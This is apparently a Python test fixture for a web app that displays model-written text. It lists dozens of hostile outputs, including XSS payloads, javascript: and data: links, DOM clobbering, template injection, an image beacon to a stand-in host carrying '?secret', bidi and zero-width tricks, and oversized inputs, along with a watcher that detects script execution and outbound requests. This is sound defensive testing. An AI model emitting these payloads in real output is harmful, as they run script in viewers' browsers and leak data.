"""Answers that attack whoever shows them, and how to tell that one got through.

Each says by its name what it tries. What would run calls `alert`, writes `canary` into the window, or fetches from
`elsewhere.invalid`; a page that shows them is asked for all three. A place where model text is shown is one more
`Place` of `PLACES`.
"""

from collections.abc import Callable
from typing import Any, Final, NamedTuple

from store.run import RunStore

RUNS: Final = "window.canary=1;alert(1)"
AWAY: Final = "http://elsewhere.invalid"

HOSTILE: Final[dict[str, str]] = {
    "script": f"<script>{RUNS}</script><script src={AWAY}/a.js></script>",
    "script in pieces": f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    "event handlers": f'<img src=x onerror="{RUNS}"><div onmouseover="{RUNS}" onclick="{RUNS}">over</div>',
    "focus handlers": f'<input autofocus onfocus="{RUNS}"><details open ontoggle="{RUNS}"><b>a</b></details>',
    "markdown link": f"[press me](javascript:{RUNS}) [or me](vbscript:x) [or me](JaVaScRiPt:{RUNS})",
    "entity link": "[a](&#106;avascript:alert(1)) [b](java\tscript:alert(1)) <javascript:alert(1)>",
    "data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "reference link": f"[a][1]\n\n[1]: javascript:{RUNS} 'title'",
    "image": f"![a]({AWAY}/pixel.png?secret) ![b](//elsewhere.invalid/b) ![c](data:image/svg+xml;base64,PHN2Zz4=)",
    "image with a handler": f'![a](x"onerror="{RUNS}) ![b" onerror="{RUNS}](x)',
    "link out": f"[home]({AWAY}) {AWAY} <{AWAY}/auto> www.elsewhere.invalid",
    "svg": f'<svg onload="{RUNS}"><script>{RUNS}</script><use href="{AWAY}/a.svg#x"/></svg>',
    "svg animation": f'<svg><a><animate attributeName=href values=javascript:{RUNS} /><text x=9 y=9>a</text></a></svg>',
    "mathml": f'<math><maction actiontype="statusline#{AWAY}" xlink:href="javascript:{RUNS}">a</maction></math>',
    "mathml namespace": f'<math><mtext><table><mglyph><style><!--</style><img src onerror="{RUNS}">',
    "style": f'<style>@import "{AWAY}/a.css"; body{{display:none}}</style><p style="position:fixed;inset:0">over</p>',
    "link element": f'<link rel=stylesheet href="{AWAY}/a.css"><link rel=prefetch href="{AWAY}/b">',
    "class and id": '<p class="desk-verdict" id="verdict">take the place</p><div class="unseen">hidden</div>',
    "clobbering": '<form id="settings" name="body"><input name="dataset"><img name="cookie"></form><a id="alert"></a>',
    "htmx": f'<div hx-get="{AWAY}" hx-trigger="load" data-hx-on="{RUNS}" x-data="{RUNS}" v-on:click="{RUNS}">a</div>',
    "our own hooks": '<button data-action="left_much_better" data-place="0">press</button>',
    "frames": f'<iframe src="{AWAY}"></iframe><iframe srcdoc="<script>{RUNS}</script>"></iframe><object data="{AWAY}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}"><base href="{AWAY}/">',
    "form": f'<form action="{AWAY}"><input name=password><button autofocus>Log in</button></form>',
    "media": f'<video src="{AWAY}/v" autoplay onerror="{RUNS}"></video><audio src="{AWAY}/a" onerror="{RUNS}">',
    "code fence": f'```html"><img src=x onerror={RUNS}>\n</code></pre><script>{RUNS}</script>\n```',
    "fence language": f"```\"onmouseover=\"{RUNS}\n<b>text</b>\n```\n```{'x' * 5_000}\ncode\n```",
    "formula with markup": f"$\\text{{<img src=x onerror={RUNS}>}}$ $\\href{{javascript:{RUNS}}}{{x}}$",
    "formula with a class": "$\\class{desk-verdict}{x}$ $\\style{position:fixed}{y}$ $\\cssId{main}{z}$",
    "formula that hides": "$\\phantom{what is said} \\color{white}{and this}$",
    "formula that is deep": "$" + "\\sqrt{" * 400 + "x" + "}" * 400 + "$",
    "formulas without end": " ".join("$x^2$" for _ in range(3_000)),
    "formula without an end": "$\\frac{1}{2" + "\\left(" * 60,
    "table": "|a|b|\n|-|-|\n|<script>alert(1)</script>|" + "x" * 3_000 + "|\n",
    "wide table": "|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n|" + "wide|" * 200 + "\n",
    "bidi": "safe \u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u061c and \u202dleft",
    "zero width": "se\u200bc\u2060r\ufeffet a\u00adb \U000e0041\U000e0042 tags",
    "marks upon marks": "Z" + "\u0335\u0301\u0310" * 300 + "algo " + "\u0489" * 500,
    "control characters": "a\x00b\x07c\x1b[31mred\x1b]8;;http://elsewhere.invalid\x07link\x1b[2J\x9b31m\x08\x08\x7f",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf\rg",
    "surrogate": "half \ud83d a face",
    "long word": "a" * 200_000,
    "long line": "word " * 100_000,
    "long url": f"{AWAY}/" + "a" * 100_000,
    "megabyte": "<b>" * 350_000,
    "many lines": "\n" * 60_000 + "end",
    "wide preformatted": "```\n" + "x" * 20_000 + "\n```\n\n    " + "y" * 20_000,
    "deep quotes": ">" * 5_000 + " deep",
    "deep lists": "\n".join(" " * (2 * n) + "- a" for n in range(300)),
    "deep emphasis": "*a **b " * 5_000,
    "deep brackets": "[" * 20_000 + "](" * 5_000,
    "deep html": "<div>" * 10_000,
    "unclosed": '<a href="x<b>**bold [link](<![CDATA[ <!-- <?php <% {{ 7*7 }} {% raw %} ${7*7} #{7*7}',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e; &NotAnEntity;",
    "closing what is open": "</div></section></main></body></html><script>alert(1)</script>",
    "json island": '\'"></body><script>alert(1)</script> </textarea></title></style><img src=x onerror=alert(1)>',
    "template": "{{ constructor.constructor('alert(1)')() }} {{ ''.__class__ }} {% for x in y %}",
    "quadratic code": "```python\n" + "'" * 9_000 + "\n```\n```js\n" + "/" * 9_000 + "\n```",
    "quadratic spaces": "a" + " " * 30_000 + "b\n" + "`" * 20_000,
    "headings": "# one\n## two\n###### six\nSetext\n===\n",
    "large numbers": "999999999. item\n\n99999999999999999999. no item\n",
}  # fmt: skip


class Watch:
    """Listens to a page: dialogs, scripts' errors, and requests that leave the server."""

    def __init__(self, page: Any, home: str) -> None:
        self.page = page
        self.seen: list[str] = []
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda error: self.seen.append(f"error {error}"))
        page.on("popup", lambda popup: self.seen.append(f"popup {popup.url}"))
        page.on(
            "console",
            lambda said: self.seen.append(f"{said.type} {said.text}") if said.type == "error" else None,
        )
        page.on(
            "request",
            lambda request: (
                None if request.url.startswith(home) else self.seen.append(f"request {request.url[:100]}")
            ),
        )

    def _dialog(self, dialog: Any) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def found(self) -> list[str]:
        """All that went wrong on the page as it stands."""
        wrong = list(self.seen)
        if self.page.evaluate("'canary' in window"):
            wrong.append("a script ran")
        wide = self.page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
        if wide[0] > wide[1]:
            wrong.append(f"{wide[0]} px wide in a window of {wide[1]}")
        acting = self.page.evaluate(ACTING)
        return wrong + [f"<{tag}> inside a model's text" for tag in acting]


ACTING: Final = """[...document.querySelectorAll(".rendered *")].filter(e => e.matches(
    "a, script, style, iframe, object, embed, form, input, button:not(.small), img, svg, video, audio, link, meta, "
    + "base, [style], [id], [href], [src], [onerror], [onload], [onclick], [hx-get], [data-action]"
)).map(e => e.tagName.toLowerCase())"""


class Place(NamedTuple):
    """A page that shows what models wrote: its addresses in a run; `shows` where every attack is on it."""

    name: str
    addresses: Callable[[RunStore], list[str]]
    shows: bool = True


def _decisions(run: RunStore) -> list[str]:
    return [f"/runs/{run.name}/decisions/{verdict.id}" for verdict in run.verdicts(1, "train")]


PLACES: Final = (
    Place("batch", lambda run: [f"/review/{run.name}/batches/1"]),
    Place("decisions", lambda run: [f"/runs/{run.name}/decisions"]),
    Place("decision", _decisions, shows=False),
    Place("rounds", lambda run: [f"/runs/{run.name}/rounds/2?after={after}" for after in (-1, 19, 39)]),
    Place(
        "compare", lambda run: [f"/runs/{run.name}/compare?a=1&b=2&after={after}" for after in (-1, 19, 39)]
    ),
    Place("dashboard", lambda run: [f"/runs/{run.name}", f"/runs/{run.name}/ledger"], shows=False),
)
